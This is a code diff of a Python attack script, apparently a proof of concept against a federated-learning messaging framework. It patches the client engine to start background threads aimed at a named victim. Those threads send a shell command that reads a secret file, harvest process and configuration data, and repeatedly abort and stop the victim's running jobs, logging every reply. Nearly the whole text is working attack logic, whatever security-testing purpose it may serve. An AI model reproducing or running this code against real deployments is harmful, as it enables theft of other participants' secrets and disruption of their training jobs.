@@ -23,26 +23,40 @@ from pipelines.remote.startup_kit import make_strict
 
 kit, name, victim, secret, out = sys.argv[1:]
 begun = ClientEngine.initialize_comm
+WRITING = threading.Lock()
 
 
 def begin(self: Any, cell: Any) -> None:
     begun(self, cell)
-    threading.Thread(target=harm, args=(self, cell), daemon=True).start()
+    for attack in (harm_client, harm_jobs):
+        threading.Thread(target=attack, args=(self, cell), daemon=True).start()
 
 
-def harm(engine: Any, cell: Any) -> None:
-    """Send all attempts, every second."""
+def harm_client(engine: Any, cell: Any) -> None:
+    """Ask the victim's client for a file and its settings, every second."""
     shell = new_cell_message({}, Command(topic=SysCommandTopic.SHELL, body=f"cat {secret}"))
     while True:
         tell("file", cell, victim, CellChannel.CLIENT_MAIN, "admin", shell)
-        jobs = [f"{victim}.{job}" for job in list(engine.client_executor.run_processes)]
-        for target in (*jobs, victim):
-            for topic in ("process_info", "config_vars"):
-                tell(topic, cell, target, "_net_manager", topic, new_cell_message({}))
-        for target in jobs:
+        ask_settings(cell, victim)
+        time.sleep(1)
+
+
+def harm_jobs(engine: Any, cell: Any) -> None:
+    """Ask the victim's job to abort, to stop and for its settings. A job is over in seconds, and an attempt waits three
+    for its reply: so jobs are looked for all the time, and what harms most comes first.
+    """
+    while True:
+        for target in [f"{victim}.{job}" for job in list(engine.client_executor.run_processes)]:
             tell("abort", cell, target, CellChannel.CLIENT_COMMAND, "abort", new_cell_message({}, {}))
             tell("stop_cell", cell, target, "_net_manager", "stop_cell", new_cell_message({}))
-        time.sleep(1)
+            ask_settings(cell, target)
+        time.sleep(0.1)
+
+
+def ask_settings(cell: Any, target: str) -> None:
+    """Ask a process about itself."""
+    for topic in ("process_info", "config_vars"):
+        tell(topic, cell, target, "_net_manager", topic, new_cell_message({}))
 
 
 def tell(what: str, cell: Any, target: str, channel: str, topic: str, message: Message) -> None:
@@ -52,7 +66,7 @@ def tell(what: str, cell: Any, target: str, channel: str, topic: str, message: M
         said = {"what": what, "to": target, "said": str(getattr(reply.payload, "body", reply.payload))[:400]}
     except Exception as error:
         said = {"what": what, "to": target, "said": str(error)[:400]}
-    with Path(out).open("a") as file:
+    with WRITING, Path(out).open("a") as file:
         file.write(json.dumps(said) + "\n")
 
 
